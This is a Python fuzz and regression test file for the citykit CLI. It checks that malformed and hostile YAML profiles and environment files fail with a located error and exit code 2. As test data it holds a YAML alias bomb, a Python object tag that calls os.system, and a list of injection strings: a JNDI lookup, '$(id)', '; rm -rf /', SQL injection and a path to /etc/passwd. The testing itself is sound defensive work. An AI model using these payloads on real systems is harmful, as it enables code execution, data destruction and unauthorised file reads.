"""Malformed and hostile profiles and environment files only ever end in a located, readable
error (exit 2), never in a traceback, and quickly."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from citykit import compiler
from citykit.errors import ValidationFailed
from citykit.input.environment import deep_merge
from tests.conftest import EXAMPLE
from tests.conftest import ROOT
from tests.conftest import example_data

CLI = [sys.executable, "-m", "citykit.cli"]

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True),
    st.text(max_size=30),
)
documents = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=5),
        st.dictionaries(st.one_of(st.text(max_size=12), st.integers()), children, max_size=6),
    ),
    max_leaves=30,
)
KEYS = ("apiVersion", "kind", "city", "scale", "districts", "departments", "layers")


def outcome(path: Path) -> str:
    try:
        compiler.compile_city(path, "dev")
    except ValidationFailed as failure:
        assert failure.problems, "a failure must carry at least one problem"
        for problem in failure.problems:
            assert problem.message and problem.file == str(path)
        return "invalid"
    return "valid"


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(document=documents)
def test_random_documents_are_valid_or_located_problems(write_profile, document) -> None:
    outcome(write_profile(yaml.safe_dump(document)))


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(key=st.sampled_from(KEYS), value=documents, drop=st.booleans())
def test_mutated_example_profiles_are_valid_or_located_problems(
    write_profile, key, value, drop
) -> None:
    data = example_data()
    if drop:
        data.pop(key)
    else:
        data[key] = value
    outcome(write_profile(yaml.safe_dump(data, allow_unicode=True)))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(raw=st.binary(max_size=400))
def test_arbitrary_bytes_are_valid_or_located_problems(tmp_path, raw: bytes) -> None:
    path = tmp_path / "bytes.yaml"
    path.write_bytes(raw)
    outcome(path)


HOSTILE = {
    "empty": b"",
    "binary": bytes(range(256)),
    "latin1": "名字: 杭州".encode("gb18030"),
    "deep": b"[" * 10_000,
    "deep-mapping": b"a:\n" + b"".join(b" " * i + b"b:\n" for i in range(1, 300)),
    "bomb": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n".encode()
        for i in range(8)
    ),
    "duplicate-keys": b"apiVersion: citykit.io/v1alpha1\nkind: CityProfile\nkind: CityProfile\n",
    "python-tag": b"!!python/object/apply:os.system ['echo owned']\n",
    "huge": b"a: " + b"x" * (3 * 1024 * 1024) + b"\n",
    "top-level-list": b"- 1\n- 2\n",
    "tabs": b"a:\n\tb: 1\n",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_cli_reports_hostile_files_with_exit_2_and_no_traceback(tmp_path: Path, name: str) -> None:
    path = tmp_path / f"{name}.yaml"
    path.write_bytes(HOSTILE[name])
    started = time.monotonic()
    result = subprocess.run(
        [*CLI, "validate", "-p", str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert time.monotonic() - started < 15
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert str(path) in result.stderr
    assert "owned" not in result.stdout


def test_cli_names_every_problem_with_its_path(tmp_path: Path) -> None:
    data = example_data()
    data["layers"]["sensing"]["device-broker"]["replicas"] = "many"
    data["city"]["slug"] = "Yu Hang"
    path = tmp_path / "city.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = subprocess.run(
        [*CLI, "validate", "-p", str(path)], capture_output=True, text=True, check=False
    )
    assert result.returncode == 2
    assert f"{path}: city.slug: 'Yu Hang' is not allowed here" in result.stderr
    assert f"{path}: layers.sensing.device-broker.replicas:" in result.stderr


# -- environment files: the same hostile classes, plus extends and injection in every field ----

PROD = yaml.safe_load((ROOT / "environments" / "prod.yaml").read_text(encoding="utf-8"))


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_cli_reports_hostile_environment_files_with_exit_2(tmp_path: Path, name: str) -> None:
    path = tmp_path / f"{name}.yaml"
    path.write_bytes(HOSTILE[name])
    result = validate_with(path)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert str(path) in result.stderr
    assert "owned" not in result.stdout


def validate_with(env: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CLI, "validate", "-p", str(EXAMPLE), "-e", str(env)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_a_hostile_file_named_by_extends_is_named(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_bytes(HOSTILE["bomb"])
    env = tmp_path / "env.yaml"
    env.write_text(yaml.safe_dump({**PROD, "extends": "base.yaml"}), encoding="utf-8")
    result = validate_with(env)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{tmp_path / 'base.yaml'}: " in result.stderr


CLI_CASES = {
    "invalid-name": ({"storageClass": "Fast SSD"}, "storageClass"),
    "wrong-scheme": ({"tls": {"acmeServer": "http://acme.city.example/dir"}}, "tls.acmeServer"),
    "unbounded": ({"cluster": {"nodes": {"general": 10**12}}}, "cluster.nodes.general"),
    "cycle": ({"extends": "cycle.yaml"}, "extends"),
    "outside": ({"extends": "../prod.yaml"}, "extends"),
    "injection": ({"domain": 'x"\nkind: ClusterRoleBinding'}, "domain"),
    "overlay": ({"profile": {"layers": {"data": {"lake": {"replicas": 2}}}}}, "profile.layers"),
}


@pytest.mark.parametrize("case", sorted(CLI_CASES))
def test_cli_names_the_environment_file_and_key_path(tmp_path: Path, case: str) -> None:
    fields, key_path = CLI_CASES[case]
    env = tmp_path / "cycle.yaml"
    env.write_text(yaml.safe_dump(deep_merge(PROD, fields)), encoding="utf-8")
    started = time.monotonic()
    result = validate_with(env)
    assert time.monotonic() - started < 15
    assert result.returncode == 2, result.stdout
    assert "Traceback" not in result.stderr
    assert f"{env}: {key_path}" in result.stderr, result.stderr


INJECTIONS = (
    'x"\nkind: ClusterRoleBinding',
    "x\n---\napiVersion: v1",
    "{{ 7*7 }}",
    "${jndi:ldap://x.example/a}",
    "$(id)",
    "; rm -rf /",
    "x' OR '1'='1",
    "../../etc/passwd",
    "\u202e\u200bx",
    "x\x7f",
    "a" * 5000,
)
# Every string field of an environment, with a benign value and how a plausible value embeds
# an injection (so values that pass the first checks reach rendering too).
STRING_FIELDS: dict[str, tuple[str, str]] = {
    "apiVersion": ("citykit.io/v1alpha1", "{}"),
    "kind": ("Environment", "{}"),
    "name": ("lab", "{}"),
    "extends": ("prod", "{}.yaml"),
    "cluster.provider": ("existing", "{}"),
    "cluster.name": ("citykit-prod", "{}"),
    "cluster.context": ("city-prod", "city-{}"),
    "storageClass": ("fast", "fast{}"),
    "domain": ("city.example", "{}.example"),
    "tls.issuer": ("acme", "{}"),
    "tls.acmeServer": ("https://acme.city.example/dir", "https://acme.city.example/{}"),
    "tls.email": ("ops@city.example", "ops{}@city.example"),
    "registryMirror": ("registry.city.example/mirror", "registry.city.example/{}"),
    "engine.backendUrl": ("s3://city-state/x", "s3://city-state/{}"),
    "engine.secretsProvider": ("awskms://alias/city", "awskms://alias/{}"),
}


def _with(field: str, value: str) -> dict[str, Any]:
    data: dict[str, Any] = {}
    node = data
    *parents, last = field.split(".")
    for parent in parents:
        node = node.setdefault(parent, {})
    node[last] = value
    merged: dict[str, Any] = deep_merge(PROD, data)
    return merged


def _shape(value: Any) -> Any:
    """The structure of an object with every scalar replaced by its type."""
    if isinstance(value, dict):
        return {key: _shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_shape(item) for item in value]
    return type(value).__name__


def _compiled_shape(path: Path) -> list[Any]:
    return [_shape(obj) for obj in compiler.compile_city(EXAMPLE, str(path)).objects()]


@pytest.mark.parametrize("field", sorted(STRING_FIELDS))
def test_injection_in_every_environment_string_is_refused_or_inert(
    tmp_path: Path, field: str
) -> None:
    benign, template = STRING_FIELDS[field]
    baseline_env = tmp_path / "baseline.yaml"
    baseline_env.write_text(yaml.safe_dump(_with(field, benign)), encoding="utf-8")
    baseline: list[Any] | None = None
    for index, injection in enumerate(INJECTIONS):
        for value in {injection, template.format(injection)}:
            env = tmp_path / f"env-{index}.yaml"
            env.write_text(yaml.safe_dump(_with(field, value)), encoding="utf-8")
            try:
                shape = _compiled_shape(env)
            except ValidationFailed as failure:
                located = {(p.file, p.path) for p in failure.problems}
                assert (str(env), field) in located, (value, failure.problems)
                assert all(len(p.render()) < 1000 for p in failure.problems)
                continue
            # Accepted: it renders as data, in objects shaped exactly as with a benign value.
            baseline = baseline if baseline is not None else _compiled_shape(baseline_env)
            assert shape == baseline, value


ENV_KEYS = (*PROD, "extends", "profile", "storageClass", "engine", "cluster")


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(key=st.sampled_from(ENV_KEYS), value=documents, drop=st.booleans())
def test_mutated_environment_files_are_valid_or_located_problems(
    tmp_path: Path, key: str, value: Any, drop: bool
) -> None:
    data = dict(PROD)
    if drop:
        data.pop(key, None)
    else:
        data[key] = value
    env = tmp_path / "env.yaml"
    env.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    try:
        compiler.compile_city(EXAMPLE, str(env))
    except ValidationFailed as failure:
        assert failure.problems
        for problem in failure.problems:
            assert problem.message and problem.file in (str(env), str(EXAMPLE))
